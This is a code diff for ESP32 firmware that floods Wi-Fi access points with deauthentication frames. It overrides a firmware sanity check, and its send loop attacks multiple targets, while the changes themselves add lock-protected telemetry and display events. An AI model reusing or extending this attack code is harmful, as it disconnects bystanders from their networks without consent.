@@ -9,21 +9,27 @@
 #include "wsl_bypasser.h"
 
 #include "esp_timer.h"
+#include <stdatomic.h>
+#include <stdbool.h>
 #include <stdint.h>
+#include <stdlib.h>
 #include <string.h>
-#include "../../main/global.h"
 
 #define LOG_LOCAL_LEVEL ESP_LOG_DEBUG
 #include "esp_log.h"
 #include "esp_err.h"
 #include "esp_wifi.h"
 #include "esp_wifi_types.h"
+#include "hotpath_log.h"
 
 #include <esp_wifi.h>
 
 #include "wifi_controller.h"
 
 static const char *TAG = "wsl_bypasser";
+
+ESP_EVENT_DEFINE_BASE(WSL_BYPASSER_EVENTS);
+
 /**
  * @brief Deauthentication frame template
  */
@@ -40,6 +46,60 @@ uint8_t deauth_frame_default[] = {
 static uint32_t counter = 0;
 static int64_t start_time = 0;
 
+/**
+ * @brief Telemetry and its sequence lock
+ * 
+ * Only writer is wsl_bypasser_send_deauth_frame_multiple_aps(), called from attack timer. Sequence is odd
+ * while telemetry is being updated. Writer reads telemetry without the lock.
+ * @{
+ */
+static wsl_bypasser_telemetry_t telemetry = { 0 };
+static atomic_uint_least32_t telemetry_sequence = 0;
+//@}
+
+static void telemetry_write_begin(){
+    uint32_t sequence = atomic_load_explicit(&telemetry_sequence, memory_order_relaxed);
+    atomic_store_explicit(&telemetry_sequence, sequence + 1, memory_order_relaxed);
+    atomic_thread_fence(memory_order_release);
+}
+
+static void telemetry_write_end(){
+    telemetry.version++;
+    uint32_t sequence = atomic_load_explicit(&telemetry_sequence, memory_order_relaxed);
+    atomic_store_explicit(&telemetry_sequence, sequence + 1, memory_order_release);
+}
+
+/**
+ * @brief Posts display change event. Never blocks, as frames are sent from timer callback.
+ * 
+ * @param event_id
+ */
+static void post_change(int32_t event_id){
+    if(esp_event_post(WSL_BYPASSER_EVENTS, event_id, NULL, 0, 0) != ESP_OK){
+        HOTPATH_LOGD(TAG, "Event queue is full, change event %d dropped", (int) event_id);
+    }
+}
+
+/**
+ * @brief Says whether given APs differ from displayed SSIDs
+ * 
+ * @param ap_records 
+ * @param count 
+ * @return true 
+ * @return false 
+ */
+static bool targets_changed(const wifi_ap_record_t *const ap_records[], size_t count){
+    if(telemetry.target_count != count){
+        return true;
+    }
+    for(size_t i = 0; i < count; i++){
+        if(strncmp(telemetry.targets[i], (const char *) ap_records[i]->ssid, sizeof(telemetry.targets[i])) != 0){
+            return true;
+        }
+    }
+    return false;
+}
+
 
 /**
  * @brief Decomplied function that overrides original one at compilation time.
@@ -54,11 +114,11 @@ int ieee80211_raw_frame_sanity_check(int32_t arg, int32_t arg2, int32_t arg3)
 
 void wsl_bypasser_send_raw_frame(const uint8_t *frame_buffer, int size)
 {
-    ESP_LOG_BUFFER_HEXDUMP(TAG, frame_buffer, size, ESP_LOG_INFO);
+    HOTPATH_LOG_BUFFER_HEXDUMP(TAG, frame_buffer, size, ESP_LOG_DEBUG);
     ESP_ERROR_CHECK(esp_wifi_80211_tx(WIFI_IF_AP, frame_buffer, size, false));
 }
 
-void wsl_bypasser_send_deauth_frame_multiple_aps(wifi_ap_record_t *ap_records, size_t count)
+void wsl_bypasser_send_deauth_frame_multiple_aps(const wifi_ap_record_t *const ap_records[], size_t count)
 {
 
     if (ap_records == NULL || count == 0)
@@ -67,29 +127,34 @@ void wsl_bypasser_send_deauth_frame_multiple_aps(wifi_ap_record_t *ap_records, s
         return;
     }
 
-    //taskENTER_CRITICAL(&dataMutex);
-
-    globalDataCount = count;
-
     for (size_t i = 0; i < count; i++) {
-        wifi_ap_record_t *ap_record = &ap_records[i];
-
-        if (ap_record == NULL)
+        if (ap_records[i] == NULL)
         {
             ESP_LOGI(TAG, "ERROR: Pusty element");
             return;
         }
+    }
 
-        if (globalData[i] != NULL) {
-            free(globalData[i]); // avoid memory leak!
+    // only first WSL_BYPASSER_TELEMETRY_MAX_TARGETS targets are published, all of them are attacked
+    size_t shown = (count < WSL_BYPASSER_TELEMETRY_MAX_TARGETS) ? count : WSL_BYPASSER_TELEMETRY_MAX_TARGETS;
+    if (targets_changed(ap_records, shown)) {
+        telemetry_write_begin();
+        for (size_t i = 0; i < shown; i++) {
+            strncpy(telemetry.targets[i], (const char *) ap_records[i]->ssid, sizeof(telemetry.targets[i]) - 1);
+            telemetry.targets[i][sizeof(telemetry.targets[i]) - 1] = '\0';
         }
-        globalData[i] = strdup((char *)ap_record->ssid);
+        telemetry.target_count = shown;
+        telemetry_write_end();
+        post_change(WSL_BYPASSER_EVENT_TARGETS_CHANGED);
+    }
 
+    for (size_t i = 0; i < count; i++) {
+        const wifi_ap_record_t *ap_record = ap_records[i];
 
-        ESP_LOGI(TAG, "Preparations to send deauth frame...");
-        ESP_LOGI(TAG, "Target SSID: %s", ap_record->ssid);
-        ESP_LOGI(TAG, "Target CHANNEL: %d", ap_record->primary);
-        ESP_LOGI(TAG, "Target BSSID: %02X:%02X:%02X:%02X:%02X:%02X",
+        HOTPATH_LOGD(TAG, "Preparations to send deauth frame...");
+        HOTPATH_LOGD(TAG, "Target SSID: %s", ap_record->ssid);
+        HOTPATH_LOGD(TAG, "Target CHANNEL: %d", ap_record->primary);
+        HOTPATH_LOGD(TAG, "Target BSSID: %02X:%02X:%02X:%02X:%02X:%02X",
                  ap_record->bssid[0], ap_record->bssid[1], ap_record->bssid[2],
                  ap_record->bssid[3], ap_record->bssid[4], ap_record->bssid[5]);
       
@@ -110,24 +175,36 @@ void wsl_bypasser_send_deauth_frame_multiple_aps(wifi_ap_record_t *ap_records, s
         int64_t elapsed_time = esp_timer_get_time() - start_time;
         if (elapsed_time >= 1000000) {
             ESP_LOGD(TAG, "%u frames sent per second", counter);
-            framesPerSecond = counter;
+            if (telemetry.frames_per_second != counter) {
+                telemetry_write_begin();
+                telemetry.frames_per_second = counter;
+                telemetry_write_end();
+                post_change(WSL_BYPASSER_EVENT_RATE_CHANGED);
+            }
             counter = 0; 
             start_time = esp_timer_get_time(); 
         }
 
         vTaskDelay(pdMS_TO_TICKS(10));
     }
+}
 
-    //taskEXIT_CRITICAL(&dataMutex);
-
+void wsl_bypasser_get_telemetry(wsl_bypasser_telemetry_t *snapshot)
+{
+    uint32_t sequence;
+    do {
+        sequence = atomic_load_explicit(&telemetry_sequence, memory_order_acquire);
+        memcpy(snapshot, &telemetry, sizeof(telemetry));
+        atomic_thread_fence(memory_order_acquire);
+    } while ((sequence & 1) || (sequence != atomic_load_explicit(&telemetry_sequence, memory_order_relaxed)));
 }
 
 void wsl_bypasser_send_deauth_frame(const wifi_ap_record_t *ap_record)
 {
-    ESP_LOGI(TAG, "Sending deauth frame...");
-    ESP_LOGI(TAG, "CHANNEL: %d", ap_record->primary);
-    ESP_LOGI(TAG, "SSID: %s", ap_record->ssid);
-    ESP_LOGI(TAG, "BSSID: %02X:%02X:%02X:%02X:%02X:%02X",
+    HOTPATH_LOGD(TAG, "Sending deauth frame...");
+    HOTPATH_LOGD(TAG, "CHANNEL: %d", ap_record->primary);
+    HOTPATH_LOGD(TAG, "SSID: %s", ap_record->ssid);
+    HOTPATH_LOGD(TAG, "BSSID: %02X:%02X:%02X:%02X:%02X:%02X",
              ap_record->bssid[0], ap_record->bssid[1], ap_record->bssid[2],
              ap_record->bssid[3], ap_record->bssid[4], ap_record->bssid[5]);
 